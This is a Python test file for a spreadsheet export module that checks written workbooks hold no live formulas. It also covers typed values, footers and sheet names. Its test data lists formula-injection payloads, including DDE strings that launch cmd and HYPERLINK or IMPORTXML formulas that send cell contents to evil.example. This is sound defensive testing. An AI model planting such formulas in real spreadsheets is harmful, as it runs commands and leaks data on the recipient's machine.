"""Workbooks that leave the house: typed, readable by others, and with nothing in them to be carried out."""

import io
import zipfile
from datetime import date, time

import openpyxl
import pytest

from escort.roster_book.opening import Limits, open_book
from escort.spreadsheet import Mark, Sheet, as_written, harmless, workbook

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=WEBSERVICE(A1)",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    " =1+1",
    "  @SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "{=1+1}",
    "%0A=1+1",
    '"=1+1"',
    ";=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula_in_any_reader(text: str) -> None:
    content = workbook([Sheet("表", [["姓名"], [text]])])

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f" not in archive.read("xl/worksheets/sheet1.xml").replace(b"<fonts", b"")
    cell = openpyxl.load_workbook(io.BytesIO(content))["表"]["A2"]
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    first = str(cell.value)[:1]
    assert first not in "=+-@\t\r\n＝＋－＠", "nor in the CSV that somebody saves from it"


@pytest.mark.parametrize("text", [*FORMULAS, "王师傅", "'张三", "", "川A12345", "19900001111", "周一=周二"])
def test_our_own_reader_gets_the_text_as_it_was(text: str) -> None:
    assert as_written(harmless(text)) == text


def test_our_own_reader_gets_the_cells_back_typed() -> None:
    cells = ["=1+1", 19900001111, 30.8214, date(2021, 4, 6), time(8, 30), True]

    (sheet,) = open_book(workbook([Sheet("表", [["甲"] * 6, cells])]), Limits()).sheets

    text, phone, degrees, day, clock, yes = sheet.grid[1]
    assert (text, phone, degrees, yes) == ("=1+1", 19900001111, 30.8214, True)
    assert str(day).startswith("2021-04-06")
    assert str(clock).startswith("08:30")


def test_a_sheet_says_who_took_it_out_and_keeps_its_header_in_sight() -> None:
    sheet = Sheet("名册", [["标题"], ["姓名"], ["小雨"]], header_row=1, marks={2: Mark.WRONG})

    read = openpyxl.load_workbook(io.BytesIO(workbook([sheet], footer="林老师 & 同事")))["名册"]

    assert read.freeze_panes == "A3"
    assert str(read.oddFooter.left.text).replace("&&", "&") == "林老师 & 同事"
    assert read["A3"].fill.fgColor.rgb == "FFF8D7D3"


def test_sheet_names_that_excel_forbids_are_mended() -> None:
    sheets = [Sheet(name, [["甲"]]) for name in ("a/b:c", "很长" * 30, "很长" * 30, "", "儿童", "儿童")]

    names = openpyxl.load_workbook(io.BytesIO(workbook(sheets))).sheetnames

    assert len(set(names)) == 6
    assert all(0 < len(name) <= 31 for name in names)
